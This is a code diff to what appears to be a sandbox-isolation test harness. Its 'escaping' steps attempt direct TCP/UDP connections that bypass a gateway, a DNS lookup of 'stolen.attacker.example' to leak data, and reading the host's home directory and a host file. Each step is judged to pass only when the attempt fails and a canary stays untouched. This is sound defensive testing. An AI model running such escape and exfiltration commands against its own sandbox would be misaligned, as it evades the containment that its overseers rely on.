@@ -4,7 +4,7 @@ import { readKnocks } from "./knock.ts";
 import type { Knock } from "./knock.ts";
 import type { Turn } from "./model/turns.ts";
 import { holdsSecret, shellQuote } from "./world.ts";
-import type { World } from "./world.ts";
+import type { HostFiles, World } from "./world.ts";
 
 export interface Verdict {
   readonly ok: boolean;
@@ -156,31 +156,26 @@ function escaping(world: World): readonly Step[] {
     {
       name: "direct-connection",
       part: "attack",
-      tried: "reach a port of this machine without the gateway",
-      command: `${knock} tcp://127.0.0.1:${world.canaryTcpPort}`,
-      judge: (output) => unreachable(output, readKnocks(output), world.canaryTouches()),
+      tried: `reach a port of ${world.machine} without the gateway`,
+      command: world.canaryTcp.map((one) => `${knock} tcp://${one}`).join("; "),
+      judge: (output) => {
+        const knocks = readKnocks(output).slice(0, world.canaryTcp.length);
+        return unreachable(output, knocks, world.canaryTcp.length, world.canaryTouches());
+      },
     },
     {
       name: "name-resolution",
       part: "attack",
       tried: "resolve a name, and tell it to a name server of its own",
-      command: `${knock} dns://stolen.attacker.example; ${knock} udp://127.0.0.1:${world.canaryUdpPort}`,
-      // A datagram to nowhere is sent without an error: of the second knock only the silence counts.
-      judge: (output) => unreachable(output, readKnocks(output).slice(0, 1), world.canaryTouches()),
+      command: [
+        `${knock} dns://stolen.attacker.example`,
+        ...world.canaryUdp.map((one) => `${knock} udp://${one}`),
+      ].join("; "),
+      // A datagram to nowhere is sent without an error: of the other knocks only the silence counts.
+      judge: (output) =>
+        unreachable(output, readKnocks(output).slice(0, 1), 1, world.canaryTouches()),
     },
-    {
-      name: "host-home",
-      part: "attack",
-      tried: "read the home and a file of this machine",
-      command: `ls -a ${shellQuote(world.hostHome)} 2>&1; cat ${shellQuote(world.hostFile)} 2>&1; echo looked`,
-      judge: (output) => {
-        const lines = output.split("\n");
-        if (!lines.includes("looked")) return missing(output);
-        const seen = world.hostHomeNames.filter((name) => lines.includes(name));
-        const ok = seen.length === 0 && !output.includes(world.hostFileText);
-        return { ok, detail: ok ? "nothing of it is there" : plainText(output) };
-      },
-    },
+    ...(world.hostFiles === undefined ? [] : [lookingAround(world.hostFiles)]),
     {
       name: "write-outside",
       part: "attack",
@@ -194,6 +189,22 @@ function escaping(world: World): readonly Step[] {
       },
     },
   ];
+}
+
+function lookingAround({ home, homeNames, file, fileText }: HostFiles): Step {
+  return {
+    name: "host-home",
+    part: "attack",
+    tried: "read the home and a file of this machine",
+    command: `ls -a ${shellQuote(home)} 2>&1; cat ${shellQuote(file)} 2>&1; echo looked`,
+    judge: (output) => {
+      const lines = output.split("\n");
+      if (!lines.includes("looked")) return missing(output);
+      const seen = homeNames.filter((name) => lines.includes(name));
+      const ok = seen.length === 0 && !output.includes(fileText);
+      return { ok, detail: ok ? "nothing of it is there" : plainText(output) };
+    },
+  };
 }
 
 /** Every knock got an answer of 200, and it arrived as it should. */
@@ -217,8 +228,13 @@ function refused(output: string, arrived: boolean, expected: number = 1): Verdic
 }
 
 /** Every knock met an errno, and the canary is silent. */
-function unreachable(output: string, knocks: readonly Knock[], touches: number): Verdict {
-  if (knocks.length === 0) return missing(output);
+function unreachable(
+  output: string,
+  knocks: readonly Knock[],
+  expected: number,
+  touches: number,
+): Verdict {
+  if (knocks.length < expected) return missing(output);
   const ok = touches === 0 && knocks.every((one) => one.error !== undefined);
   const canary = touches === 0 ? "the canary is silent" : `the canary was touched ${touches} times`;
   return { ok, detail: `${knocks.map(tell).join(", ")}; ${canary}` };
